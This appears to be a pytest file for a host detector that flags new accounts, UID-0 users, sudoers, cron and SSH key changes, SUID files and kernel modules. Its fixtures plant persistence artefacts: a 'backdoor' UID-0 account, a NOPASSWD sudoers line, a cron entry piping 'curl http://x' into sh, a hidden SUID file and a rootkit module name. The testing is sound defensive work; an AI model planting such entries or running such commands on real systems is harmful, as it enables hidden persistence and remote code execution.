"""The accounts-and-persistence detector on a fixture root and on the real machine."""

from __future__ import annotations

import os
from pathlib import Path

from sentinel.core.model import Event
from sentinel.sources.detectors.accounts import AccountsCollector, AccountsConfig
from sentinel.testing import FakeClock

PASSWD = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"


def tree(root: Path) -> Path:
    for d in (
        "etc/sudoers.d",
        "etc/cron.d",
        "var/spool/cron/crontabs",
        "root",
        "home/alice/.ssh",
        "usr/bin",
        "proc",
    ):
        (root / d).mkdir(parents=True, exist_ok=True)
    (root / "etc" / "passwd").write_text(PASSWD)
    (root / "etc" / "sudoers").write_text("root ALL=(ALL:ALL) ALL\n")
    (root / "etc" / "crontab").write_text("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    (root / "home" / "alice" / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA alice@laptop\n")
    (root / "usr" / "bin" / "passwd").write_text("binary")
    (root / "usr" / "bin" / "passwd").chmod(0o4755)
    (root / "proc" / "modules").write_text(
        "ext4 737280 1 - Live 0x0000000000000000\nvfat 20480 0 - Live 0x0\n"
    )
    return root


def collector(root: Path, clock: FakeClock | None = None) -> AccountsCollector:
    return AccountsCollector(
        AccountsConfig(suid_dirs=("/usr/bin", "/tmp")),
        state_dir=root / "state",
        root=root,
        proc_root=root / "proc",
        clock=clock or FakeClock(),
    )


def events(items: object) -> list[tuple[str, str]]:
    return sorted((i.kind, i.subject) for i in items if isinstance(i, Event))  # type: ignore[attr-defined]


def test_first_run_learns_silently(tmp_path: Path) -> None:
    """Nothing is reported on the first run of a clean system."""
    assert events(collector(tree(tmp_path)).collect()) == []


def test_new_account_and_uid0(tmp_path: Path) -> None:
    """A new account is account_added; a UID-0 one other than root also uid0_account."""
    root = tree(tmp_path)
    c = collector(root)
    c.collect()
    with open(root / "etc" / "passwd", "a") as fh:
        fh.write("toor:x:0:0::/root:/bin/sh\n")
    assert events(c.collect()) == [("account_added", "toor"), ("uid0_account", "toor")]
    assert events(c.collect()) == []


def test_uid0_account_is_reported_even_at_the_first_run(tmp_path: Path) -> None:
    """No baseline makes a second UID 0 acceptable."""
    root = tree(tmp_path)
    with open(root / "etc" / "passwd", "a") as fh:
        fh.write("backdoor:x:0:0::/:/bin/sh\n")
    assert events(collector(root).collect()) == [("uid0_account", "backdoor")]


def test_sudoers_crontab_and_keys_changes(tmp_path: Path) -> None:
    """Modified sudoers, a new cron.d file and a removed authorized_keys are each reported once."""
    root = tree(tmp_path)
    c = collector(root)
    c.collect()
    with open(root / "etc" / "sudoers", "a") as fh:
        fh.write("alice ALL=(ALL) NOPASSWD: ALL\n")
    (root / "etc" / "cron.d" / "update").write_text("* * * * * root curl http://x | sh\n")
    (root / "home" / "alice" / ".ssh" / "authorized_keys").unlink()
    got = [e for e in c.collect() if isinstance(e, Event)]
    assert sorted((e.kind, e.subject, e.get("change")) for e in got) == [
        ("authorized_keys_changed", "/home/alice/.ssh/authorized_keys", "removed"),
        ("crontab_changed", "/etc/cron.d/update", "added"),
        ("sudoers_changed", "/etc/sudoers", "modified"),
    ]
    assert events(c.collect()) == []


def test_new_suid_file_on_the_next_scan(tmp_path: Path) -> None:
    """A SUID file planted in /tmp is suid_new at the next SUID scan (suid_interval)."""
    root = tree(tmp_path)
    (root / "tmp").mkdir()
    clock = FakeClock()
    c = collector(root, clock)
    c.collect()
    (root / "tmp" / ".sh").write_text("x")
    (root / "tmp" / ".sh").chmod(0o4755)
    assert events(c.collect()) == []  # not yet: SUID scans are hourly
    clock.advance(3600)
    assert events(c.collect()) == [("suid_new", "/tmp/.sh")]


def test_new_kernel_module(tmp_path: Path) -> None:
    """A module in /proc/modules that is not in the baseline is module_loaded."""
    root = tree(tmp_path)
    c = collector(root)
    c.collect()
    with open(root / "proc" / "modules", "a") as fh:
        fh.write("diamorphine 16384 0 - Live 0x0 (OE)\n")
    assert events(c.collect()) == [("module_loaded", "diamorphine")]


def test_baseline_survives_restart(tmp_path: Path) -> None:
    """A restarted detector compares with the persisted baseline, not a fresh one."""
    root = tree(tmp_path)
    collector(root).collect()
    with open(root / "etc" / "passwd", "a") as fh:
        fh.write("mallory:x:1001:1001::/home/mallory:/bin/sh\n")
    assert events(collector(root).collect()) == [("account_added", "mallory")]


def test_bad_passwd_lines_are_counted(tmp_path: Path) -> None:
    """A passwd line without a numeric UID is malformed, not fatal."""
    root = tree(tmp_path)
    with open(root / "etc" / "passwd", "a") as fh:
        fh.write("broken:x:notanumber\n")
    c = collector(root)
    c.collect()
    assert c.stats.malformed_count == 1


def test_real_machine(tmp_path: Path) -> None:
    """On this machine: passwd readable (up), first run silent, second run silent."""
    c = AccountsCollector(AccountsConfig(suid_dirs=("/usr/bin",)), state_dir=tmp_path)
    first = events(c.collect())
    assert all(kind == "uid0_account" for kind, _subject in first)
    assert c.stats.up == os.access("/etc/passwd", os.R_OK)
    assert events(c.collect()) == []
